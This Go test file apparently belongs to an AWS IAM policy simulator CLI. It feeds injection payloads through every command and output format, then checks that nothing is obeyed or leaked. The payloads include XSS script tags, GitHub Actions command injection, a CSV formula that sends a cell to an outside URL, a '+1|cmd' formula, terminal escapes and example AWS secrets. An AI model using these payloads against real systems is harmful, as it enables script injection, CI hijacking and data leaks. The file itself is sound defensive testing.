package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"hash/maphash"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/iamsim/iamsim/internal/spelling"
	"github.com/spf13/cobra"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const accessKey = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"

// payloads are texts that somebody else could have chosen: a name, a part of an
// ARN, the value of a context key.
var payloads = map[string]string{
	"nothing":            "a",
	"terminal":           "a\x1b[2J\x1b]0;title\ab\x9bc",
	"direction":          "a\u202etxt.exe\u2066b\u2069",
	"no width":           "a\u200bb\u2060c\U000e0041",
	"a secret, coloured": "secret_key=\x1b[31m" + accessKey + "\x1b[0m",
	"a row":              "a\nforged  allowed  ok\r\nforged: proved",
	"GitHub":             "::error file=a::b",
	"GitHub, later":      "a\n::set-output name=a::b\n ##[add-path]a",
	"GitHub, anywhere":   "a ##[error]b",
	"HTML":               `a"'><script>alert(1)</script><img src=x onerror=alert(1)>`,
	"Markdown":           "a`<b>](javascript:alert(1)) | x | @team",
	"a formula":          `=HYPERLINK("https://a.test/?"&A1,"b")`,
	"a formula, later":   "\t+1|cmd",
	"a formula of rows":  "@SUM(1)\n=1,forged\r\n-1",
	"a secret":           accessKey,
	"a secret in JSON":   `{"SecretAccessKey":"` + accessKey + `"}`,
	"a secret, split":    "aws_secret_access_key=\n  " + accessKey,
	"a token":            "x IQoJb3JpZ2luX2VjE" + strings.Repeat("aB3/x+Zq9", 3) + strings.Repeat(accessKey, 2),
	"a token of GitHub":  "ghp_" + strings.ReplaceAll(accessKey, "/", "0"),
	"a private key":      "-----BEGIN PRIVATE KEY-----\n" + accessKey + "\n" + accessKey + "\n-----END PRIVATE KEY-----",
	"a header":           "Authorization: Bearer " + accessKey,
	"cookies":            "Cookie: a=" + accessKey + "; b=c",
	"a secret in a URL":  "s3://AKIAIOSFODNN7EXAMPLE:" + accessKey + "@bucket",
	"an environment":     "HOME=/a\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nAWS_SECRET_ACCESS_KEY=" + accessKey + "\nPWD=/b",
}

// verbs are ways to call the command, each with every format that it has; %s stands
// for the folder with the files of [write]. What "a " begins gets wrong input.
var verbs = map[string][]string{
	"eval":                     {"eval", "%s/scenario.json"},
	"test":                     {"test", "--verbose", "%s/scenario.json"},
	"explain":                  {"explain", "--all", "%s/scenario.json"},
	"explain a snapshot":       {"explain", "--snapshot", "%s/snapshot.json", "--principal", "arn:aws:iam::111122223333:user/a", "--action", "s3:GetObject", "--context", "aws:UserAgent=payload", "--resource", "arn:aws:s3:::bucket/k"},
	"denied":                   {"denied", "--all", "%s/policy.json"},
	"new access":               {"prove", "new-access", "%s/policy.json", "%s/other.json"},
	"equivalent":               {"prove", "equivalent", "%s/policy.json", "%s/other.json"},
	"redundant":                {"prove", "redundant", "%s/policy.json"},
	"not granted":              {"prove", "not-granted", "%s/policy.json", "--action", "s3:Get*", "--resource", "*"},
	"public":                   {"prove", "public", "%s/resource.json"},
	"pass role":                {"prove", "pass-role", "%s/policy.json", "--role", "arn:aws:iam::111122223333:role/b"},
	"invokable by":             {"prove", "invokable-by", "%s/function.json", "--caller", "arn:aws:iam::111122223333:role/b"},
	"diff":                     {"diff", "%s/policy.json", "%s/other.json"},
	"diff of a plan":           {"diff", "--account", "111122223333", "--region", "eu-west-1", "%s/plan.json"},
	"summarize":                {"summarize", "%s/policy.json"},
	"summarize a change":       {"summarize", "--before", "%s/policy.json", "--after", "%s/other.json"},
	"summarize a snapshot":     {"summarize", "--snapshot", "%s/snapshot.json"},
	"validate":                 {"validate", "%s/policy.json"},
	"validate an account":      {"validate", "%s/snapshot.json"},
	"validate a template":      {"validate", "--account", "111122223333", "--region", "eu-west-1", "%s/template.json"},
	"validate a plan":          {"validate", "--account", "111122223333", "--region", "eu-west-1", "%s/plan.json"},
	"account":                  {"account", "%s/snapshot.json"},
	"account of a template":    {"account", "--account", "111122223333", "--region", "eu-west-1", "%s/template.json"},
	"account of a plan":        {"account", "--account", "111122223333", "--region", "eu-west-1", "%s/plan.json"},
	"fmt":                      {"fmt", "%s/policy.json"},
	"catalog":                  {"catalog", "s3:GetObject"},
	"managed diff":             {"managed", "diff", "AWSLambda_ReadOnlyAccess"},
	"managed list":             {"managed", "list", "AWSLambda*"},
	"managed show":             {"managed", "show", "AWSLambda_ReadOnlyAccess"},
	"managed versions":         {"managed", "versions", "AWSLambda_ReadOnlyAccess"},
	"version":                  {"version"},
	"a wrong scenario":         {"eval", "%s/wrong.json"},
	"a wrong test":             {"test", "%s/wrong.json"},
	"a wrong explanation":      {"explain", "%s/wrong.json"},
	"a wrong policy":           {"validate", "%s/wrong.json"},
	"a wrong side":             {"diff", "%s/wrong.json", "none"},
	"a wrong snapshot":         {"account", "%s/wrongs.json"},
	"a wrong template":         {"account", "%s/wrongt.json"},
	"a wrong plan":             {"account", "%s/wrongp.json"},
	"a wrong form":             {"fmt", "%s/wrong.json"},
	"a parameter":              {"account", "--parameters", "payload=payload", "--set", "payload=payload", "%s/template.json"},
	"a file that is not there": {"explain", "%s/none"},
	"a policy that is not":     {"summarize", "%s/none"},
	"a flag":                   {"eval", "--payload"},
	"a form":                   {"eval", "--color", "payload", "%s/scenario.json"},
	"a kind":                   {"prove", "redundant", "--kind", "payload", "%s/policy.json"},
	"a role":                   {"prove", "pass-role", "%s/policy.json", "--role", "payload"},
	"a caller":                 {"prove", "invokable-by", "%s/function.json", "--caller", "payload"},
	"a question":               {"prove", "payload"},
	"a verb":                   {"payload"},
	"another name":             {"catalog", "payload"},
	"a managed policy":         {"managed", "show", "payload"},
	"another pattern":          {"managed", "list", "payload"},
	"a managed version":        {"managed", "versions", "payload"},
	"a managed change":         {"managed", "diff", "AWSLambda_ReadOnlyAccess", "payload"},
}

// A sink is a way in which the command prints what it was given.
type sink struct {
	args   []string
	format string // "" for people, and of a verb that has no formats
}

// sinks are the verbs with each of their formats.
func sinks() map[string]sink {
	all := make(map[string]sink)
	for name, args := range verbs {
		all[name] = sink{args: args}
		words, formats := formatsOfVerb(args)
		for _, format := range formats {
			if name == "diff of a plan" && (format == "sarif" || format == "github") {
				continue // has no lines to point at
			}
			if strings.HasPrefix(name, "a ") && !slices.Contains([]string{"json", "jsonl", "sarif", "junit", "csv"}, format) {
				continue // is for people, who read the error
			}
			all[name+", "+format] = sink{slices.Concat(args[:words], []string{"--output", format}, args[words:]), format}
		}
	}
	return all
}

// formatsOfVerb are the formats of the verb that arguments call, beside that for
// people, and of how many words it is.
func formatsOfVerb(args []string) (words int, formats []string) {
	c, rest, err := rootCommand(newScreen()).Find(args)
	if err != nil {
		return 0, nil
	}
	if complete, ok := c.GetFlagCompletionFunc("output"); ok {
		formats, _ = complete(c, nil, "")
	}
	return len(args) - len(rest), slices.DeleteFunc(formats, func(format string) bool { return format == "text" })
}

func TestEveryVerbIsASink(t *testing.T) {
	var called []string
	for _, args := range verbs {
		if c, _, err := rootCommand(newScreen()).Find(args); err == nil {
			called = append(called, c.CommandPath())
		}
	}
	var check func(c *cobra.Command)
	check = func(c *cobra.Command) {
		if c.Runnable() && !c.Hidden {
			assert.Contains(t, called, c.CommandPath(), "a row of verbs")
		}
		for _, below := range c.Commands() {
			check(below)
		}
	}
	check(rootCommand(newScreen()))
}

// trusting is a role trust policy.
func trusting(principal string) string {
	return `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":` + principal + `},"Action":"sts:AssumeRole"}]}`
}

// write writes files that have the payload wherever text may stand, and gives the
// text of a denial that has it.
func write(t *testing.T, dir, payload string) (denial string) {
	quote := func(parts ...string) string {
		text, err := json.Marshal(strings.Join(parts, ""))
		require.NoError(t, err)
		return string(text)
	}
	part := payload // of an ARN
	resource := quote("arn:aws:s3:::bucket/", part)
	document := func(action string) string {
		return `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"` + action + `","Resource":` + resource + `},
			{"Sid":"A","Effect":"Deny","Action":"s3:*","Resource":` + resource + `,"Condition":{"StringEquals":{` + quote("aws:PrincipalTag/", part) + `:` + quote(payload) + `}}}]}`
	}
	// inline is the document as it stands in what AWS and its tools print.
	principal := func(action string) string {
		return `{"Version":"2012-10-17","Statement":[{"Sid":` + quote(payload) + `,"Effect":"Allow","Principal":{"AWS":` + quote("arn:aws:iam::111122223333:role/", part) +
			`},"Action":"` + action + `","Resource":` + resource + `,"Condition":{"StringLike":{` + quote("aws:PrincipalTag/", part) + `:` + quote(payload) + `}}}]}`
	}
	tags := `[{"Key":` + quote(payload) + `,"Value":` + quote(payload) + `}]`
	role := `{"RoleName":` + quote(payload) + `,"Path":"/","Arn":` + quote("arn:aws:iam::111122223333:role/", part) + `,"AssumeRolePolicyDocument":` + trusting(quote("arn:aws:iam::111122223333:role/", part)) +
		`,"Tags":` + tags + `,"RolePolicyList":[{"PolicyName":` + quote(payload) + `,"PolicyDocument":` + document("s3:Get*") + `}],"AttachedManagedPolicies":[{"PolicyName":` + quote(payload) + `,"PolicyArn":` + quote("arn:aws:iam::111122223333:policy/", part) + `}]}`
	user := `{"UserName":"a","Path":"/","Arn":"arn:aws:iam::111122223333:user/a","Tags":` + tags + `,"GroupList":[` + quote(payload) + `],"UserPolicyList":[{"PolicyName":` + quote(payload) + `,"PolicyDocument":` + document("s3:Get*") + `}],"AttachedManagedPolicies":[]}`
	resources := func(named string) string {
		return `{` + quote(payload) + `:{"Type":"AWS::IAM::Role","Properties":{"AssumeRolePolicyDocument":` + trusting(quote("arn:aws:iam::111122223333:role/", part)) + named +
			`,"Tags":` + tags + `,"Policies":[{"PolicyName":` + quote(payload) + `,"PolicyDocument":` + document("s3:Get*") + `}]}},
			"User":{"Type":"AWS::IAM::User","Properties":{"Policies":[{"PolicyName":{"Fn::Join":["",[{"Ref":"P"},` + quote(payload) + `]]},"PolicyDocument":` +
			strings.ReplaceAll(document("s3:Put*"), resource, `{"Fn::GetAtt":[`+quote(payload)+`,"Arn"]}`) + `}]}}}`
	}
	planned := func(address, name string) string {
		after := `{"name":` + name + `,"assume_role_policy":` + quote(trusting(quote("arn:aws:iam::111122223333:role/", part))) + `,"inline_policy":[{"name":` + quote(payload) + `,"policy":` + quote(document("s3:Get*")) + `}],"tags":{` + quote(payload) + `:` + quote(payload) + `}}`
		one := `"address":` + quote(address) + `,"mode":"managed","type":"aws_iam_role","name":` + quote(payload) + `,"provider_name":"registry.terraform.io/hashicorp/aws"`
		return `{"format_version":"1.2","terraform_version":"1.11.4","planned_values":{"root_module":{"resources":[{` + one + `,"values":` + after + `}]}},
			"resource_changes":[{` + one + `,"change":{"actions":["create"],"before":null,"after":` + after + `,"after_unknown":{"arn":true}}}]}`
	}
	for name, text := range map[string]string{
		"policy.json":   document("s3:Get*"),
		"resource.json": principal("s3:Get*"),
		"function.json": `{"Version":"2012-10-17","Statement":[{"Sid":` + quote(payload) + `,"Effect":"Allow","Principal":"*","Action":"lambda:InvokeFunction","Resource":"arn:aws:lambda:eu-west-1:111122223333:function:f","Condition":{"StringEquals":{"aws:PrincipalTag/a":` + quote(payload) + `}}}]}`,
		"snapshot.json": `{"UserDetailList":[` + user + `],"GroupDetailList":[{"GroupName":` + quote(payload) + `,"Path":"/","Arn":` + quote("arn:aws:iam::111122223333:group/", part) + `,"GroupPolicyList":[],"AttachedManagedPolicies":[]}],"RoleDetailList":[` + role + `],"Policies":[]}`,
		"template.json": `{"Description":` + quote(payload) + `,"Parameters":{"P":{"Type":"String","Description":` + quote(payload) + `}},"Resources":` + resources("") + `}`,
		"plan.json":     planned("aws_iam_role."+payload, quote(payload)),
		"wrongs.json":   `{"RoleDetailList":[{"RoleName":` + quote(payload) + `,"Arn":` + quote(payload) + `,` + quote(payload) + `:1},{"RoleName":1}]}`,
		"wrongt.json":   `{"Resources":` + resources(`,"RoleName":{"Fn::Payload":`+quote(payload)+`},`+quote(payload)+`:{"Fn::Sub":`+quote("${", payload, "}${")+`},"Path":{"Fn::GetAtt":`+quote(payload)+`},"Description":{"Ref":`+quote("x", payload)+`}`) + `,` + quote(payload) + `:{` + quote(payload) + `:1},"Parameters":{` + quote(payload) + `:{"Type":` + quote(payload) + `}},"Conditions":{` + quote(payload) + `:{"Condition":` + quote(payload) + `}}}`,
		"wrongp.json":   strings.Replace(planned("aws_iam_role."+payload, "1"), `"assume_role_policy":"`, `"assume_role_policy":"x`, -1),
		"other.json":    document("s3:Put*"),
		"scenario.json": `{"name":` + quote(payload) + `,"request":{"principal":"arn:aws:iam::111122223333:user/a","action":"s3:GetObject","resource":` + resource +
			`,"context":{"aws:UserAgent":` + quote(payload) + `}},"policies":{"identity":["policy.json"]},"want":{"decision":"implicitDeny"}}`,
		"wrong.json": `{"name":` + quote(payload) + `,"request":{"principal":` + quote(payload) + `,"action":` + quote(payload) + `},` + quote(payload) + `:1}`,
	} {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600))
	}
	return "User: arn:aws:iam::111122223333:user/a is not authorized to perform: s3:GetObject on resource: \"arn:aws:s3:::bucket/" + part +
		"\" because no identity-based policy allows the s3:GetObject action\n" + payload + "\n"
}

// With IAMSIM_SINKS=1 in the environment every payload meets every sink; without it
// one in four of the sinks that a payload could meet.
func TestNothingFromOutsideIsObeyedWhereItIsPrinted(t *testing.T) {
	sinks := sinks()
	all := os.Getenv("IAMSIM_SINKS") == "1"
	seed := maphash.MakeSeed()
	for name, payload := range payloads {
		dir := t.TempDir()
		denial := write(t, dir, payload)
		for called, to := range sinks {
			if name != "nothing" && !to.takes() || strings.Contains(payload, accessKey) && to.format != "" && to.format != "json" {
				continue
			}
			if name != "nothing" && !all && maphash.String(seed, name+called)%4 != 0 {
				continue
			}
			t.Run(name+"/"+called, func(t *testing.T) {
				stdout, stderr, status := ran(t, denial, to.with(dir, payload)...)
				if wrong := strings.HasPrefix(called, "a "); name == "nothing" {
					assert.Equal(t, wrong, status == int(broken), stderr)
				}
				assert.True(t, to.format == "github" || stdout+stderr != "")
				isHarmless(t, to.format, stdout, stderr)
				rest := accessKey[strings.LastIndex(accessKey, "/"):] // which is the name of a role whose path is before it
				assert.NotContains(t, strings.ReplaceAll(stdout+stderr, "assumed-role"+rest, ""), rest[1:])
			})
		}
	}
}

// takes reports whether the sink has a place for a payload.
func (s sink) takes() bool {
	args := strings.Join(s.args, " ")
	return strings.Contains(args, "%s") || strings.Contains(args, "payload")
}

// with are the arguments with the folder of [write], and the payload where it stands
// for one.
func (s sink) with(dir, payload string) []string {
	var args []string
	for _, arg := range s.args {
		arg = strings.ReplaceAll(arg, "%s", dir)
		arg = strings.ReplaceAll(arg, "payload", payload)
		args = append(args, strings.ReplaceAll(arg, "/none", "/none/"+payload))
	}
	return args
}

// ran runs the command in this process, with a text on standard input.
func ran(t *testing.T, stdin string, args ...string) (stdout, stderr string, status int) {
	t.Helper()
	to, err := os.Create(filepath.Join(t.TempDir(), "stdout"))
	require.NoError(t, err)
	defer to.Close()
	var errors strings.Builder
	out := newScreen()
	out.File, out.notes = to, &errors
	root := rootCommand(out)
	root.SetArgs(args)
	root.SetIn(strings.NewReader(stdin))
	status = run(root, out)
	text, err := os.ReadFile(to.Name())
	require.NoError(t, err)
	return string(text), errors.String(), status
}

// isHarmless: what was printed has the form that it is to have, and does nothing.
func isHarmless(t *testing.T, format, stdout, stderr string) {
	t.Helper()
	for _, text := range []string{stdout, stderr} {
		if format == "github" {
			text = withoutAnnotations(text)
		}
		isPlain(t, text)
		assert.False(t, format != "html" && forged.MatchString(text), text)
	}
	switch format {
	case "json", "jsonl", "sarif":
		isJSON(t, []byte(stdout))
	case "csv":
		isCSV(t, stdout)
	case "junit":
		isXML(t, stdout)
	case "html":
		if stdout != "" {
			isPage(t, stdout)
		}
	case "markdown":
		isMarkdown(t, stdout)
	}
}

// forged is what stands at the beginning of a line if a payload has begun one.
var forged = regexp.MustCompile(`(?m)^forged`)

func isPlain(t *testing.T, text string) {
	t.Helper()
	assert.NotContains(t, text, accessKey)
	assert.NotContains(t, text, "##[")
	for line := range strings.SplitSeq(text, "\n") {
		assert.Equal(t, spelling.Shown(line), line)
		assert.NotContains(t, line, "\u200b")
		bare := strings.TrimSpace(line)
		assert.False(t, strings.HasPrefix(bare, "::"), line)
	}
}

// withoutAnnotations is a text without what begins the annotations of ours.
func withoutAnnotations(text string) string { return annotation.ReplaceAllString(text, "") }

var annotation = regexp.MustCompile(`(?m)^::(?:error|warning|notice) file=[^,:\n]*(?:,line=\d+(?:,col=\d+)?(?:,endLine=\d+(?:,endColumn=\d+)?)?)?,title=[\w-]+::`)

func isJSON(t *testing.T, text []byte) {
	t.Helper()
	assert.NotEmpty(t, text, "an error is a document, too")
	for d := json.NewDecoder(bytes.NewReader(text)); ; {
		var value any
		if err := d.Decode(&value); err != nil {
			assert.ErrorIs(t, err, io.EOF, "%s", text)
			return
		}
	}
}

// isCSV: a row is a line, and no cell is a formula.
func isCSV(t *testing.T, text string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	require.NoError(t, err)
	assert.Len(t, rows, strings.Count(text, "\n"))
	for _, row := range rows {
		for _, cell := range row {
			assert.NotRegexp(t, `^\s*[=+@-]`, cell)
		}
	}
}

// isXML: there is a document, and its elements are closed.
func isXML(t *testing.T, text string) {
	t.Helper()
	assert.NotEmpty(t, text, "an error is a document, too")
	assert.NoError(t, xml.Unmarshal([]byte(text), new(struct{ XMLName xml.Name })), "%s", text)
}

// isPage: the page is well-formed, with the elements of ours alone.
func isPage(t *testing.T, text string) {
	t.Helper()
	assert.NotContains(t, text, "<script>alert")
	assert.NotContains(t, text, "<img")
	d := xml.NewDecoder(strings.NewReader(text))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if !assert.NoError(t, err) {
			return
		}
		if e, ok := token.(xml.StartElement); ok {
			for _, a := range e.Attr {
				assert.NotEqual(t, "onerror", a.Name.Local)
			}
		}
	}
}

// ours are the elements that our Markdown has.
var ours = strings.NewReplacer("<details><summary>", "", "</summary>", "", "</details>", "")

// isMarkdown: outside code there is nothing of the payload.
func isMarkdown(t *testing.T, text string) {
	t.Helper()
	for line := range strings.SplitSeq(text, "\n") {
		bare := ours.Replace(withoutCode(line))
		for _, active := range []string{"<", "](", "@team"} {
			assert.NotContains(t, bare, active, line)
		}
	}
}

// withoutCode is a line of Markdown without its spans of code, which end with as
// many backquotes as they begin with.
func withoutCode(line string) string {
	var b strings.Builder
	for {
		begin := strings.IndexByte(line, '`')
		if begin < 0 {
			return b.String() + line
		}
		b.WriteString(line[:begin])
		rest := strings.TrimLeft(line[begin:], "`")
		fence := line[begin : len(line)-len(rest)]
		end := -1
		for at := 0; at < len(rest); {
			i := strings.IndexByte(rest[at:], '`')
			if i < 0 {
				break
			}
			run := len(rest[at+i:]) - len(strings.TrimLeft(rest[at+i:], "`"))
			if run == len(fence) {
				end = at + i + run
				break
			}
			at += i + run
		}
		if end < 0 {
			return b.String() + fence + rest
		}
		line = rest[end:]
	}
}
